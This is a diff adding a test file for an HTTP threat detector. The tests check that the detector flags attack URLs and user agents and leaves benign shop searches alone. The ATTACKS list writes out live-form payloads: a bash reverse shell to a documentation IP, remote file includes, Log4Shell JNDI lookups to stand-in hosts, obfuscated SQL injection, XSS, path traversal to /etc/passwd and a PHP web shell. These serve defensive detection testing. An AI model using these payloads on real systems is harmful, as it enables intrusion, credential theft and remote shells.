@@ -1,0 +1,101 @@
+/**
+ * Each detector class against attacks (including obfuscated ones) and against the benign traffic it must
+ * leave alone: shop searches with quotes and SQL words, tracking parameters, tokens, non-ASCII paths.
+ */
+import { describe, expect, it } from 'vitest';
+import { httpThreatConfig } from './config.js';
+import { HttpThreat } from './http-threat.js';
+
+const scorer = new HttpThreat(httpThreatConfig.parse({}));
+const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
+
+function classesOf(url: string, userAgent = BROWSER, referrer?: string): string[] {
+  const verdict = scorer.score(url, userAgent, referrer);
+  return verdict === undefined || verdict.score < 0.5 ? [] : [...new Set(verdict.reasons.map((r) => r.class))];
+}
+
+const ATTACKS: ReadonlyArray<readonly [string, string, string?]> = [
+  ['sqli', "/search?q=' UNION SELECT username,password FROM users--"],
+  ['sqli', '/item?id=1%2527%2520OR%2520%25271%2527%253D%25271'], // double URL encoding
+  ['sqli', '/item?id=1 UN/**/ION SEL/**/ECT 1,2,3'], // comments inside keywords
+  ['sqli', '/item?id=1/*!50000UnIoN*/ /*!50000SeLeCt*/ 1'], // MySQL versioned comments, mixed case
+  ['sqli', "/item?id=1';DROP TABLE users;--"],
+  ['sqli', "/item?id=1' AnD SlEeP(5)-- -"],
+  ['sqli', '/item?id=1 or 1=1'],
+  ['sqli', '/item?id=1 and extractvalue(1,concat(0x7e,version()))'],
+  ['xss', '/search?q=<script>alert(1)</script>'],
+  ['xss', '/search?q=&lt;img src=x onerror=&#97;lert(1)&gt;'], // entity-encoded
+  ['xss', '/search?q=%253Csvg%252Fonload%253Dalert(1)%253E'], // double encoded
+  ['xss', '/go?next=JaVaScRiPt:alert(document.cookie)'],
+  ['lfi', '/../../../../etc/passwd'],
+  ['lfi', '/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow'],
+  ['lfi', '/static/..%c0%af..%c0%afwindows/win.ini'],
+  ['lfi', '/index.php?page=php://filter/convert.base64-encode/resource=index'],
+  ['lfi', '/.git/config'],
+  ['rfi', '/index.php?page=http://203.0.113.9/shell.txt?'],
+  ['rfi', '/index.php?include=https://evil.example/r57.txt'],
+  ['rce', '/ping?host=127.0.0.1;cat /etc/passwd'],
+  ['rce', '/ping?host=x|c\\a\'t%20/e"t"c/pa$@sswd'],
+  ['rce', '/ping?host=$(whoami)'],
+  ['rce', '/ping?host=x;/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
+  ['rce', '/cgi-bin/status', '() { :; }; /bin/cat /etc/passwd'],
+  ['php', '/index.php?x=<?php system($_GET["c"]); ?>'],
+  ['php', '/index.php?f=base64_decode(%27ZWNobyAx%27)'],
+  ['java', '/', '${jndi:ldap://203.0.113.9:1389/a}'],
+  ['java', '/?x=${${lower:j}${upper:n}${::-d}i:${lower:l}dap://evil/a}'], // nested lookups
+  ['java', '/?x=$%7B$%7Benv:NOTHING:-j%7Dndi:rmi://evil/a%7D'],
+  ['java', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
+  ['scanner', '/', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
+  ['scanner', '/', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)'],
+  ['scanner', '/', 'Mozilla/5.0 zgrab/0.x'],
+  ['scanner', '/', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'],
+  ['scanner', '/', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'],
+  ['generic', '/api?__proto__[admin]=true'],
+  ['generic', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
+];
+
+const BENIGN: readonly string[] = [
+  "/search?q=O'Reilly+books",
+  '/search?q=o%27reilly%20or%20packt',
+  '/help?q=select+a+size',
+  '/help/drop-shipping?topic=drop+shipping+and+returns',
+  '/search?q=union+jack+flag&sort=price',
+  '/search?q=jeans+32%22x34%22',
+  '/search?q=sleep%20mask',
+  '/search?q=cat+toys&page=2',
+  '/search?q=ls+7+dress',
+  '/search?q=php+elephant+plush',
+  '/search?q=rock+%26+roll+t-shirt&color=black',
+  '/products/1234?ref=newsletter&utm_source=google&utm_medium=cpc&utm_campaign=spring-sale%7Cdynamic&gclid=Cj0KCQiA6LyfBhC3ARIsAG4gkF9_x-Yz',
+  '/auth/callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
+  '/img?d=aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQrLz0=&w=640',
+  '/produkte/gr%C3%BC%C3%9Fe-schuhe?farbe=wei%C3%9F',
+  '/商品/靴?サイズ=27',
+  '/api/v1/orders/42?fields=id,total,items&filter[status]=shipped',
+  '/search?q=c%2B%2B+programming&page=3',
+  '/blog/2024/05/why-we-use-and-or-not?lang=en',
+];
+
+describe('detectors', () => {
+  it.each(ATTACKS.map(([cls, url, userAgent]) => ({ cls, url, userAgent: userAgent ?? BROWSER })))('$cls: $url $userAgent', ({ cls, url, userAgent }) => {
+    expect(classesOf(url, userAgent)).toContain(cls);
+  });
+
+  it.each(BENIGN)('leaves benign %s alone', (url) => {
+    expect(scorer.score(url, BROWSER, 'https://shop.example/')).toBeUndefined();
+  });
+
+  it('does not take ordinary clients for scanners', () => {
+    for (const ua of [BROWSER, 'curl/8.5.0', 'Googlebot/2.1 (+http://www.google.com/bot.html)', 'python-requests/2.31.0', 'okhttp/4.12.0'])
+      expect(scorer.score('/', ua, undefined)).toBeUndefined();
+  });
+
+  it('reports the matched text, normalised and cut to 64 characters, and the field it came from', () => {
+    const verdict = scorer.score('/?q=%3Cscript%3E' + 'a'.repeat(100), BROWSER, undefined);
+    const reason = verdict?.reasons.find((r) => r.detector === 'xss-script-tag');
+    expect(reason).toEqual({ detector: 'xss-script-tag', class: 'xss', fragment: '<script', field: 'url' });
+    const ua = scorer.score('/', '${jndi:ldap://x/' + 'b'.repeat(100) + '}', undefined);
+    expect(ua?.reasons[0]?.field).toBe('user_agent');
+    expect(ua?.reasons.every((r) => r.fragment.length <= 64)).toBe(true);
+  });
+});
